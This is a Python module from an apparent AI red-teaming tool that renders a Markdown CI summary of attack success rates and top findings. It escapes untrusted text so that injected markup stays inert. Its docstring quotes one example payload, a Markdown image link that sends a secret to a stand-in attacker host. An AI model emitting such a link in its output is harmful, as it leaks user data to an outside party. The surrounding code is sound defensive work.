"""``summary.md``: a short Markdown summary of a red-team run for a CI job summary.

Contents: the overall attack success rate (ASR), a table per OWASP category, the errors count and the top
findings (most severe first) with the deciding judge's reason. No transcripts.

Job summaries render Markdown and inline HTML, so every value that can come from a probe, a target or a
judge is escaped: HTML markup becomes entities and Markdown punctuation is backslash-escaped, so that a
reason quoting ``![x](https://evil.example/?q=secret)`` cannot turn into an image that leaks data.
"""

from __future__ import annotations

import html
import re
from pathlib import Path

from bastion.redteam.report._text import attempt_name, by_severity, category_title, visible_text
from bastion.redteam.types import RunResult

__all__ = ["TOP_FINDINGS", "escape_markdown", "percent", "render_markdown", "write_markdown"]

#: How many findings the summary lists.
TOP_FINDINGS = 10
_MAX_REASON = 200
# Inline Markdown and GFM syntax; values never start a line, so block syntax (``#``, ``-``, ``1.``) is inert.
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()!|~])")
_WHITESPACE = re.compile(r"\s+")


def escape_markdown(text: str, limit: int = 0) -> str:
    """``text`` as inert Markdown on one line: whitespace collapsed, HTML escaped, punctuation escaped.

    With ``limit`` > 0 the text is cut to that many characters (before escaping) and ends in ``…``.
    """
    flat = _WHITESPACE.sub(" ", visible_text(text)).strip()
    if limit and len(flat) > limit:
        flat = flat[: limit - 1].rstrip() + "…"
    return _MARKDOWN_PUNCTUATION.sub(r"\\\1", html.escape(flat, quote=False))


def percent(value: float) -> str:
    """A rate as a percentage with one decimal, e.g. ``0.25`` -> ``"25.0 %"``."""
    return f"{value * 100:.1f} %"


def render_markdown(run: RunResult) -> str:
    """``summary.md`` as text; same run -> same text."""
    summary = run.summary
    lines = [
        f"## Bastion red team: {escape_markdown(run.target)}",
        "",
        f"Run {escape_markdown(run.run_id)}, seed {run.seed}, "
        f"{escape_markdown(run.started_at)} to {escape_markdown(run.finished_at)}",
        "",
        f"**Attack success rate: {percent(summary.asr)}** "
        f"({summary.successes} of {summary.attempts} attempts succeeded; errors: {summary.errors})",
        "",
        *_budget_lines(run),
        "| Category | Title | Attempts | Successes | ASR |",
        "| --- | --- | ---: | ---: | ---: |",
    ]
    for category, row in summary.by_category.items():
        lines.append(
            f"| {escape_markdown(category)} | {escape_markdown(category_title(category))} "
            f"| {row.attempts} | {row.successes} | {percent(row.asr)} |"
        )
    lines.append(f"| **Total** | | {summary.attempts} | {summary.successes} | {percent(summary.asr)} |")
    findings = by_severity(run.findings)
    lines += ["", f"### Top findings ({min(len(findings), TOP_FINDINGS)} of {len(findings)})", ""]
    if not findings:
        lines.append("No attack succeeded.")
    else:
        lines += [
            "| Severity | Category | Probe | Judge | Reason |",
            "| --- | --- | --- | --- | --- |",
        ]
        for result in findings[:TOP_FINDINGS]:
            verdict = result.deciding_verdict
            judge = verdict.judge if verdict else ""
            lines.append(
                f"| {result.attempt.probe.severity.value} | {escape_markdown(result.attempt.probe.category)} "
                f"| {escape_markdown(attempt_name(result))} | {escape_markdown(judge)} "
                f"| {escape_markdown(verdict.reason if verdict else '', _MAX_REASON)} |"
            )
    return "\n".join(lines) + "\n"


def _budget_lines(run: RunResult) -> list[str]:
    budget = run.budget
    if budget is None:
        return []
    strategies = sorted({result.attempt.strategy for result in run.results})
    line = (
        f"Strategies: {escape_markdown(', '.join(strategies) or 'none')}; spent {budget.target_calls} target "
        f"calls and {budget.attacker_tokens} attacker/judge tokens"
    )
    if budget.exhausted:
        line += f"; budget reached ({escape_markdown(budget.exhausted)}), {budget.skipped} attempts skipped"
    return [line, ""]


def write_markdown(run: RunResult, path: Path) -> Path:
    """Write ``summary.md`` for ``run`` to ``path`` and return ``path``."""
    path.write_bytes(render_markdown(run).encode("utf-8"))
    return path
